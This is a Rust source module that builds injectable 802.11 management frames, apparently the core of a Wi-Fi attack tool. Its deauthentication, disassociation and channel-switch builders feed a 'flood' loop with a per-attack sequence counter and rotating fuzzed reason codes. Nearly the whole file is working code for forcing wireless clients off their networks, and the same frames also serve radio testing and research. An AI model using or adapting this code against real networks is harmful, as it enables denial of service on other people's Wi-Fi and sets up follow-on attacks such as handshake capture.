//! 802.11 management frame synthesis.
//!
//! Every frame is a radiotap header (declaring rate and TX flags)
//! followed by a 24-byte management header and a type-specific body.
//! Layouts follow IEEE Std 802.11-2016: 9.3.3 (management frames),
//! 9.4.1.7 (reason codes), 9.4.2.19 (Channel Switch Announcement).
//! Lengths are fixed here; the FCS is appended by the driver.

use crate::types::{MacAddr, REASON_FUZZ};

/// Length of the injection radiotap header we emit.
pub const RADIOTAP_LEN: usize = 12;

/// Management header length: FC + duration + 3 addresses + seq control.
pub const MGMT_HDR_LEN: usize = 24;

// Frame-control bytes for the management subtypes we emit
// (subtype << 4, type = management, protocol version 0).
const FC_ASSOC_REQ: u8 = 0x00;
const FC_PROBE_REQ: u8 = 0x40;
const FC_DISASSOC: u8 = 0xA0;
const FC_AUTH: u8 = 0xB0;
const FC_DEAUTH: u8 = 0xC0;
const FC_ACTION: u8 = 0xD0;

// Spectrum management action: Channel Switch Announcement.
const ACTION_CATEGORY_SPECTRUM_MGMT: u8 = 0;
const ACTION_CHANNEL_SWITCH: u8 = 4;
const ELEMENT_ID_CSA: u8 = 37;

// Information element ids for probe/assoc bodies.
const ELEMENT_ID_SSID: u8 = 0;
const ELEMENT_ID_SUPPORTED_RATES: u8 = 1;
const ELEMENT_ID_EXT_RATES: u8 = 50;

/// 1, 2, 5.5, 11 Mbps, flagged as basic rates.
const SUPPORTED_RATES: [u8; 4] = [0x82, 0x84, 0x8B, 0x96];

/// 6, 9, 12, 18, 24, 36, 48, 54 Mbps.
const EXTENDED_RATES: [u8; 8] = [0x0C, 0x12, 0x18, 0x24, 0x30, 0x48, 0x60, 0x6C];

/// Duration value carried by disconnection frames (microseconds).
const DEAUTH_DURATION: u16 = 0x013A;

/// Capability info advertised in association requests:
/// ESS | privacy | short preamble | short slot time.
const ASSOC_CAPABILITIES: u16 = 0x0431;

const ASSOC_LISTEN_INTERVAL: u16 = 0x000A;

/// Which management frame a flood iteration emits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FrameKind {
    Deauth,
    Disassoc,
    Csa,
}

/// Read the frame kind back out of a built frame (test observability
/// and monitor-side classification).
pub fn kind_of(frame: &[u8]) -> Option<FrameKind> {
    match frame.get(RADIOTAP_LEN)? {
        &FC_DEAUTH => Some(FrameKind::Deauth),
        &FC_DISASSOC => Some(FrameKind::Disassoc),
        &FC_ACTION => Some(FrameKind::Csa),
        _ => None,
    }
}

/// Reason code from the rotating fuzz list.
pub fn fuzz_reason(iteration: u64) -> u16 {
    REASON_FUZZ[(iteration % REASON_FUZZ.len() as u64) as usize]
}

/// Monotonic 12-bit sequence counter. Wraps at 4096, per the sequence
/// control field width.
#[derive(Debug, Clone)]
pub struct SequenceCounter {
    value: u16,
}

impl SequenceCounter {
    /// Seed from a sniffed (or random) starting point.
    pub fn new(seed: u16) -> Self {
        Self { value: seed & 0x0FFF }
    }

    pub fn random() -> Self {
        Self::new(rand::random::<u16>())
    }

    /// Current value, then advance.
    pub fn next(&mut self) -> u16 {
        let v = self.value;
        self.value = (self.value + 1) & 0x0FFF;
        v
    }
}

/// Builds injectable frames, owning the per-attack sequence counter.
pub struct FrameBuilder {
    seq: SequenceCounter,
}

impl FrameBuilder {
    pub fn new(seq: SequenceCounter) -> Self {
        Self { seq }
    }

    fn header(&mut self, fc0: u8, duration: u16, dst: MacAddr, src: MacAddr, bssid: MacAddr) -> Vec<u8> {
        let mut buf = Vec::with_capacity(RADIOTAP_LEN + MGMT_HDR_LEN + 16);

        // Radiotap: version 0, length 12, present = RATE | TX_FLAGS.
        buf.extend_from_slice(&[0x00, 0x00]);
        buf.extend_from_slice(&(RADIOTAP_LEN as u16).to_le_bytes());
        buf.extend_from_slice(&0x0000_8004u32.to_le_bytes());
        buf.push(0x02); // rate: 1 Mbps in 500 kbps units
        buf.push(0x00); // alignment pad
        buf.extend_from_slice(&0x0008u16.to_le_bytes()); // TX flag: no-ack

        // Management header.
        buf.push(fc0);
        buf.push(0x00);
        buf.extend_from_slice(&duration.to_le_bytes());
        buf.extend_from_slice(dst.as_bytes());
        buf.extend_from_slice(src.as_bytes());
        buf.extend_from_slice(bssid.as_bytes());
        let seq_ctrl = self.seq.next() << 4;
        buf.extend_from_slice(&seq_ctrl.to_le_bytes());
        buf
    }

    pub fn deauth(&mut self, dst: MacAddr, src: MacAddr, bssid: MacAddr, reason: u16) -> Vec<u8> {
        let mut buf = self.header(FC_DEAUTH, DEAUTH_DURATION, dst, src, bssid);
        buf.extend_from_slice(&reason.to_le_bytes());
        buf
    }

    pub fn disassoc(&mut self, dst: MacAddr, src: MacAddr, bssid: MacAddr, reason: u16) -> Vec<u8> {
        let mut buf = self.header(FC_DISASSOC, DEAUTH_DURATION, dst, src, bssid);
        buf.extend_from_slice(&reason.to_le_bytes());
        buf
    }

    /// Channel Switch Announcement action frame: tells stations the AP
    /// is moving to `new_channel` in `count` beacon intervals, with
    /// transmission paused meanwhile (mode 1).
    pub fn csa(
        &mut self,
        dst: MacAddr,
        src: MacAddr,
        bssid: MacAddr,
        new_channel: u8,
        count: u8,
    ) -> Vec<u8> {
        let mut buf = self.header(FC_ACTION, 0, dst, src, bssid);
        buf.push(ACTION_CATEGORY_SPECTRUM_MGMT);
        buf.push(ACTION_CHANNEL_SWITCH);
        buf.extend_from_slice(&[ELEMENT_ID_CSA, 3, 1, new_channel, count]);
        buf
    }

    pub fn probe_request(&mut self, src: MacAddr, ssid: &str) -> Vec<u8> {
        let mut buf = self.header(FC_PROBE_REQ, 0, MacAddr::BROADCAST, src, MacAddr::BROADCAST);
        push_ssid_ie(&mut buf, ssid);
        push_rates_ies(&mut buf);
        buf
    }

    /// Open-system authentication, transaction 1.
    pub fn auth_request(&mut self, bssid: MacAddr, src: MacAddr) -> Vec<u8> {
        let mut buf = self.header(FC_AUTH, DEAUTH_DURATION, bssid, src, bssid);
        buf.extend_from_slice(&0u16.to_le_bytes()); // algorithm: open system
        buf.extend_from_slice(&1u16.to_le_bytes()); // transaction sequence
        buf.extend_from_slice(&0u16.to_le_bytes()); // status
        buf
    }

    pub fn assoc_request(&mut self, bssid: MacAddr, src: MacAddr, ssid: &str) -> Vec<u8> {
        let mut buf = self.header(FC_ASSOC_REQ, DEAUTH_DURATION, bssid, src, bssid);
        buf.extend_from_slice(&ASSOC_CAPABILITIES.to_le_bytes());
        buf.extend_from_slice(&ASSOC_LISTEN_INTERVAL.to_le_bytes());
        push_ssid_ie(&mut buf, ssid);
        push_rates_ies(&mut buf);
        buf
    }
}

fn push_ssid_ie(buf: &mut Vec<u8>, ssid: &str) {
    let bytes = ssid.as_bytes();
    let len = bytes.len().min(32);
    buf.push(ELEMENT_ID_SSID);
    buf.push(len as u8);
    buf.extend_from_slice(&bytes[..len]);
}

fn push_rates_ies(buf: &mut Vec<u8>) {
    buf.push(ELEMENT_ID_SUPPORTED_RATES);
    buf.push(SUPPORTED_RATES.len() as u8);
    buf.extend_from_slice(&SUPPORTED_RATES);
    buf.push(ELEMENT_ID_EXT_RATES);
    buf.push(EXTENDED_RATES.len() as u8);
    buf.extend_from_slice(&EXTENDED_RATES);
}
